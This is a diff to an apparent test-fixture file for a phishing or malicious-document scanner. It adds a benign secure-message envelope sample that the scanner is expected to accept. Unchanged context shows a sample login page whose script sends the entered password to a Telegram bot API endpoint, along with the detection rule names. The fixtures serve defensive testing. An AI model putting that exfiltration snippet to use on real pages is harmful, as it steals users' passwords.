@@ -457,6 +457,12 @@ LOGIN_TELEGRAM = page(
     '<input type="password" id="p"><script>function go(){'
     "fetch('https://api.telegram.org/bot123456789:AAEexampleexampleexample/sendMessage?chat_id=1&text=' + p.value);}</script>"
 )
+SECURE_ENVELOPE = page(
+    "<p>You have received a secure message. Enter your password to open it.</p>"
+    '<form name="f" method="post" action="https://res.cisco.com/websafe/decrypt">'
+    '<input type="hidden" name="envelope" value="AAAA"><input type="password" name="key1">'
+    '<input type="submit" value="Open"></form>'
+)
 NEWSLETTER = page(
     '<h1>Spring newsletter</h1><p>Follow us on Telegram: https://t.me/practice_news</p>'
     '<form action="https://practice.example/search" method="get"><input type="text" name="q">'
@@ -657,6 +663,8 @@ CONTEXT_SAMPLES: dict[str, tuple[Sample, str | None]] = {
                                             "HTML_CREDENTIAL_FORM_OFFSITE"),
     "page that clicks its own link on load": (Sample("site.html", HTML, text(AUTO_CLICK), Action.TAG),
                                               "HTML_SCRIPT_REDIRECT"),
+    "secure-message envelope posting to its service": (Sample("securedoc.html", HTML, text(SECURE_ENVELOPE),
+                                                              Action.ACCEPT), None),
     "fillable PDF form with calculation scripts": (Sample("intake.pdf", PDF, pdf_fillable_form, Action.ACCEPT),
                                                    "PDF_JAVASCRIPT"),
     "document-level PDF form script": (Sample("form.pdf", PDF, pdf_javascript_name_tree, Action.ACCEPT), "PDF_JAVASCRIPT"),
